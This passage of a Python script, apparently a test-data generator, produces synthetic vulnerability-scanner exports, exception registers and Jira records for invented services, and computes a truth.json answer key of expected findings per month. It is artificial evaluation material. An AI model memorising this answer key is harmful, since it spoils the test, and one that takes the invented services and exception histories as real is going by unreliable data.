  lambda f: (f.service, f.data.get("cve")) in {("payments-api", "CVE-2022-42003"), ("storefront", "CVE-2022-46175"),
                                               ("parcel-tracker", "CVE-2020-8203"), ("parcel-tracker", "CVE-2022-24999")}),
 ("exception without expiry", "EX-2026-005 says `Never`, EX-2026-012 (from September) `TBD`: accepted, and reported as without expiry.",
  lambda f: (f.service, f.data.get("cve")) in {("checkout", "CVE-2016-1000027"), ("ledger", "CVE-2023-25194")}),
 ("expired exception", "EX-2026-006 ends on 2026-09-15, LOG-EX-2 on 2026-10-09: accepted until then, open afterwards.",
  lambda f: (f.service, f.data.get("cve")) in {("login", "CVE-2023-39325"), ("warehouse-sync", "CVE-2024-21907")}),
 ("revoked exception", "EX-2026-010 is revoked in October: open again.", lambda f: (f.service, f.data.get("cve")) == ("parcel-tracker",
         "CVE-2021-3749")),
 ("requested exception", "EX-2026-013 is only requested: covers nothing.", lambda f: (f.service, f.data.get("cve")) == ("fraud-scoring",
         "CVE-2022-22817")),
 ("accepted by a ticket", "RISK-3 is a risk acceptance in the tracker, approved on 10 September: an exception like those of the registers. RISK-4 is not approved and covers nothing.",
  lambda f: (f.service, f.data.get("cve")) in {("label-printer", "CVE-2023-45283"), ("search-api", "CVE-2023-45288")}),
 ("closed ticket, open finding", "SEC-103 was closed on 4 September and reopened after the incident of 20 October, SEC-105 was closed on 2 October; the scanners still report both, and they win.",
  lambda f: (f.service, f.data.get("cve")) in {("checkout", "CVE-2022-22965"), ("storefront", "CVE-2021-44906")}),
 ("owner from the ticket", "The inventory names no owner of backoffice, and none of label-printer until October: the assignees of SEC-109 and SEC-113 stand in.",
  lambda f: (f.service, f.data.get("cve")) in {("backoffice", "CVE-2022-34265"), ("label-printer", "CVE-2023-44487")}),
 ("known to be exploited", "In the catalogue of exploited vulnerabilities; CVE-2022-42889 was added on 14 September.",
  lambda f: f.data.get("cve") in exploited(MONTHS[-1])),
 ("false positive by register", "EX-2026-009 names a rule and a path with `**`: false positives.",
  lambda f: f.service == "catalog-api" and f.kind == "sast" and f.data["rule"]["id"] == "PREDICTABLE_RANDOM"),
 ("suppressed in SARIF", "Suppressions with status accepted: accepted, and an exception record each; status underReview: open.",
  "suppressed in SARIF"),
 ("suppressed in the code", "nosemgrep (`is_ignored`): accepted.", "suppressed in the code"),
 ("false positive in ZAP", "Confidence 0: false positive.", "false positive in ZAP"),
 ("failed scan", "Gone since 5 September, but the dependency scan of catalog-api on 16 September failed: they stay open until 14 October.",
  "failed scan"),
 ("scanner did not run", "No report of fraud-scoring in October: its findings stay as they were, unverified.",
  lambda f: f.service == "fraud-scoring"),
 ("unowned infrastructure", "The repository infra-live and the cluster core-eu1 are in no inventory: no service, no owner. One of them was critical.",
  lambda f: f.service is None and f.kind == "iac"),
 ("not in the inventory", "legacy-promo is scanned but in no inventory; so is the image tools/legacy-cron, which has not even a service.",
  lambda f: f.service == "legacy-promo" or f.scope.endswith("legacy-cron")),
 ("no owner", "backoffice has a blank owner in every month, label-printer until its row is filled in October.",
  lambda f: f.service in ("backoffice", "label-printer")),
 ("noisy rule", "gosec G104 is more than 30 % of what gosec reports, and more than 20 findings.",
  lambda f: f.kind == "sast" and f.data["rule"]["id"] == "G104"),
 ("hostile text", "Titles and paths with HTML, Markdown, terminal escapes, formulas, U+202E, emoji and CJK, 3,000 characters: shown, never executed.",
  lambda f: (f.story or "").startswith("hostile")),
]

def late(f, month):
    return state_at(f, month)[0] == "open" and bool(due(f)) and month_end(month) - DAY > due(f)

def matcher(f):
    d = f.data
    if f.kind == "pkg":
        return {"cve": d["cve"], "component": d["name"]}
    if f.kind == "fuzz":
        return {"crash": d["crash"], "function": d["function"]}
    rule = d["rule"]["id"] if f.kind == "sast" else avd_id(d["rule"]) if f.kind == "iac" else "check:" + d["rule"] if f.kind == "api" else d["rule"]
    where = {k: d[k] for k in ("resource", "workload", "file", "method", "path") if k in d}
    return {"rule_id": rule, **({"resource": where["resource"]} if "resource" in where else where)}

def story_truth(flaws, title, effect, which):
    chosen = [f for f in flaws if (f.story == which if isinstance(which, str) else which(f))]
    chosen.sort(key=lambda f: f.order)
    short = len(chosen) > 20
    out = {"title": title, "effect": effect, "findings": len(chosen), "by_month": {}, "examples" if short else "all": []}
    for m in MONTHS:
        out["by_month"][m] = dict(sorted(collections.Counter(state_at(f, m)[0] or "unseen" for f in chosen).items()))
    for f in chosen[:5] if short else chosen:
        seen = [s for s in ALL_SCANS if reported(f, s)]
        expect = {}
        for m in MONTHS:
            state, at = state_at(f, m)
            expect[m] = {"state": state or "unseen", **({"resolved_at": f"{at:%Y-%m-%d}"} if at else {}),
                         **({"sources": len({(s.stream.tool, s.stream.target) for s in seen if s.at < month_end(m)})} if state else {}),
                         **({"late": True} if late(f, m) else {})}
            ticket = ticket_of(f, m) if state else None
            if ticket:
                expect[m].update(ticket=ticket.key, owner=owner_at(f, m) or None)
        out["examples" if short else "all"].append({"service": f.service, "target": None if f.service else f.scope, "severity": f.severity,
                                                    "match": matcher(f),
            "first_seen": f"{first_seen(f):%Y-%m-%d}", "files": sorted({f"{month_of(s.at)}/{s.file}" for s in seen}), "expect": expect})
    return out

# ===============================================================================================================
# All of it
# ===============================================================================================================
def gzip_bytes(data):
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body.compress(data) + body.flush() + struct.pack("<II", zlib.crc32(data),
            len(data) & 0xFFFFFFFF)

def encoded(file, text, utf16=False):
    if utf16:                                                    # as `semgrep … > file` writes it in PowerShell 5
        return b"\xff\xfe" + text.replace("\n", "\r\n").encode("utf-16-le")
    data = text.encode("utf-8")
    return gzip_bytes(data) if file.endswith(".gz") else data

def exports(flaws):
    """month -> file name -> (bytes, facts about it)"""
    out = {m: {} for m in MONTHS}
    together = collections.OrderedDict()
    for scan in ALL_SCANS:
        together.setdefault((month_of(scan.at), scan.file), []).append(scan)
    for (month, file), scans in together.items():
        text, entries = "", 0
        for scan in scans:                                       # several reports in one file: the registry's
            found = sorted((f for f in flaws if reported(f, scan)), key=lambda f: f.order)
            entries += len(found)
            text += globals()["write_" + scan.stream.writer](scan, found)
        st = scans[0].stream
        facts = {"format": FORMAT[st.writer], "reports": len(scans), "entries": entries, "service": st.service if len(scans) == 1
                 else sorted(filter(None, (s.stream.service for s in scans))),
                 "at": clock(scans[0].at) if scans[0].dated else None, "outcome": "ok" if scans[0].ok else "failed"}
        data = encoded(file, text, bool(st.opts.get("utf16")))
        out[month][file] = (data, facts)
        if file in COPIES:
            out[month][COPIES[file]] = (data, {**facts, "copy_of": file})
    for month in MONTHS:
        k = month[5:]
        cells = lambda text: [[c for c in r] for r in rows(text)]
        put = lambda name, data, kind, n: out[month].__setitem__(name, (data if isinstance(data, bytes) else encoded(name, data),
                                                                        {"format": kind, "reports": 1, "entries": n}))
        put("assets.csv", write_assets(month), "asset_inventory", write_assets(month).count("\n") - 1)
        put("exceptions.xlsx", write_exceptions(month), "exception_register", sum(k in r[0].split() for r in rows(EXCEPTIONS)))
        put("exceptions.md", write_wiki(month), "exception_register", sum(k in r[0].split() for r in rows(WIKI_EXCEPTIONS)))
        put("jira.json", write_tickets(month), "jira", len(tickets(month)) + sum(D(r[3]) < month_end(month) for r in rows(RISKS)))
        put("jira-incidents.json", write_incidents(month), "jira", sum(r[8] <= k for r in rows(INCIDENTS)))
        put("gitlab-jobs.json", write_jobs(month)[0], "gitlab_pipelines", write_jobs(month)[1])
        if write_runs(month)[1]:
            put("github-actions.json", write_runs(month)[0], "github_actions", write_runs(month)[1])
        put("gitlab-releases.json", write_releases(month)[0], "gitlab_releases", write_releases(month)[1])
        put("gitlab-deployments.json", write_deployments(month)[0], "gitlab_releases", write_deployments(month)[1])
        put("kev.json", write_kev(month)[0], "kev", write_kev(month)[1])
        put(f"epss_scores-{month_end(month) - DAY:%Y-%m-%d}.csv.gz", write_epss(month)[0], "epss_csv", write_epss(month)[1])
        activities = [r for r in cells(ACTIVITIES) if r[0].startswith(month)]
        put("activities.csv", table(["at", "category", "source_tool", "product", "service", "target", "entries", "outcome"], activities),
            "csv (activity)", len(activities))
        actions = [r for r in cells(ACTIONS) if r[0].startswith(month)]
        put("actions.csv", table(["at", "metric", "decision", "owner", "type", "area"], actions), "csv (action)", len(actions))
    return out

def truth_of(flaws, files):
    out = {"about": "What the pipeline should find, computed by generate.py from its model of the company, never from the exports. Each month is run on its own exports, "
                    "with the findings of the month before as --previous. Days are UTC.", "months": {}, "stories": []}
    for m in MONTHS:
        releases, gates = pipeline(m)
        results = [(r, release_result(r, gates, flaws, m)) for r in releases if r[3] == "production"]
        out["months"][m] = {
            "files": {name: facts for name, (_, facts) in sorted(files[m].items())},
            **month_truth(flaws, m),
            "releases": {"counted": len(results), "passed": sum(x == "passed" for _, x in results),
                         "failed": sum(x == "failed" for _, x in results),
                         "without_result": sum(x is None for _, x in results)},
            "gates": dict(sorted(collections.Counter(g[4] for g in gates).items())), "services_with_a_gate": len({g[1] for g in gates}),
            "incidents": {"detected": sum(r[1].startswith(m) for r in rows(INCIDENTS)), "from_unknown_defects": sum(r[1].startswith(m)
                    and r[7] == "false" for r in rows(INCIDENTS))},
            "activities_in_csv": sum(r[0].startswith(m) for r in rows(ACTIVITIES)),
        }
    out["stories"] = [story_truth(flaws, *s) for s in STORIES]
    return out

def markdown(truth):
    """The tables of README.md."""
    code = lambda t: "`" + str(t).replace("|", "\\|") + "`" if "`" not in str(t) else "`` " + str(t).replace("|", "\\|") + " ``"
    months = truth["months"]
    out = ["### Entries by format", "", "| Format | " + " | ".join(f"{m}: files | entries" for m in MONTHS) + " |",
           "| --- |" + " --: |" * 6]
    for fmt in sorted({x["format"] for m in MONTHS for x in months[m]["files"].values()}):
        cells = []
        for m in MONTHS:
            some = [x for x in months[m]["files"].values() if x["format"] == fmt]
            cells += [str(len(some)), str(sum(x["entries"] for x in some))]
        out.append(f"| {fmt} | " + " | ".join(cells) + " |")
    out += ["", "### What is true at the end of each month", "", "| | " + " | ".join(MONTHS) + " |", "| --- |" + " --: |" * 3]
    line = lambda name, get: out.append(f"| {name} | " + " | ".join(str(get(months[m])) for m in MONTHS) + " |")
    line("findings known so far (distinct)", lambda t: t["findings_known"])
    line("open", lambda t: t["open"])
    for s in ("critical", "high", "medium", "low", "info"):
        line(f"open, {s}", lambda t: t["open_by_severity"].get(s, 0))
    line("accepted / false positive / resolved", lambda t: " / ".join(str(t["by_state"].get(s, 0))
                                                                      for s in ("accepted", "false_positive", "resolved")))
    line("new / closed / reopened in the month", lambda t: f"{t['new']} / {t['closed']} / {t['reopened']}")
    line("critical findings older than SLA (of tier 1)", lambda t: f"{t['critical_older_than_sla']} ({t['critical_older_than_sla_tier_1']})")
    line("overdue findings", lambda t: t["overdue_findings"])
    line("due in the month: closed in time (beside: under exception)",
         lambda t: "{in_time} of {due} ({beside})".format(**t["sla_compliance"]))
    line("open without owner / of services in no inventory", lambda t: f"{t['open_without_owner']} / {t['open_unmapped']}")
    line("open, and no good scan looked for it in the month", lambda t: t["open_not_looked_for"])
    line("exceptions in force in the registers (and suppressions that scanners keep)",
         lambda t: "{in_force} ({kept_by_scanners})".format(**t["exceptions"]))
    for name, key in (("without expiry", "without_expiry"), ("expired, finding still open", "expired_still_open"),
                      ("too broad", "too_broad"), ("matching nothing", "matching_nothing")):
        line("exceptions " + name, lambda t: ", ".join(t["exceptions"][key]) or "none")
    for control in ("sast", "dast", "any"):
        line(f"services covered by {control if control != 'any' else 'any scan'}, tier 1, 2, 3",
             lambda t: ", ".join(f"{a} of {b}" for a, b in t["coverage"][control].values()))
    line("releases passed of those with a result (without)", lambda t: f"{t['releases']['passed']} of {t['releases']['passed'] + t['releases']['failed']} ({t['releases']['without_result']})")
    line("gates passed of passed + failed; services with a gate",
         lambda t: f"{t['gates']['passed']} of {t['gates']['passed'] + t['gates']['failed']}; {t['services_with_a_gate']}")
    line("incidents (from unknown defects)", lambda t: f"{t['incidents']['detected']} ({t['incidents']['from_unknown_defects']})")
    out += ["", "### The stories", ""]
    for s in truth["stories"]:
        some = s.get("all") or s["examples"]
        states = "; ".join(m + ": " + ", ".join(f"{n} {w}" for w, n in s["by_month"][m].items()) for m in MONTHS)
        out += [f"**{s['title']}**. {s['effect']} {s['findings']} finding{'s' * (s['findings'] != 1)}: {states}."
                + (f" {len(some)} of them:" if "examples" in s else ""), ""]
        for x in some:
            what = ", ".join(code(v) for v in x["match"].values())
            where = sorted({re.sub(r"\.\d{4}-\d\d-\d\d(\.copy)?", "", p[8:]) for p in x["files"]})
            out.append(f"- {code(x['service'] or x['target'])} {what} ({x['severity']}, first seen {x['first_seen']}), in {', '.join(code(w) for w in where)}: "
                       + ", ".join(f"{x['expect'][m]['state']}{' (late)' if x['expect'][m].get('late') else ''}" for m in MONTHS))
        out.append("")
    return "\n".join(out).rstrip() + "\n"

def main(arguments):
    flaws = build()
    for f in flaws:
        f.history = history(f)
    files = exports(flaws)
    truth = truth_of(flaws, files)
    for month, some in files.items():
        folder = os.path.join(HERE, "exports", month)
        os.makedirs(folder, exist_ok=True)
        for name in set(os.listdir(folder)) - set(some):
            os.remove(os.path.join(folder, name))
        for name, (data, _) in some.items():
            with open(os.path.join(folder, name), "wb") as out:
                out.write(data)
    with open(os.path.join(HERE, "truth.json"), "w", encoding="utf-8", newline="\n") as out:
        out.write(lay(truth, 4) + "\n")
    readme = os.path.join(HERE, "README.md")
    with open(readme, encoding="utf-8") as old:
        head, _, rest = old.read().partition("<!-- written by generate.py -->\n")
        tail = rest.partition("<!-- end -->\n")[2]
    with open(readme, "w", encoding="utf-8", newline="\n") as out:
        out.write(head + "<!-- written by generate.py -->\n" + markdown(truth) + "<!-- end -->\n" + tail)
    if "--summary" in arguments:
        for m in MONTHS:
            by = collections.Counter()
            for x in truth["months"][m]["files"].values():
                by[x["format"]] += x["entries"]
            print(m, len(files[m]), "files", sum(len(d) for d, _ in files[m].values()), "bytes", dict(sorted(by.items())))

if __name__ == "__main__":
    main(sys.argv[1:])
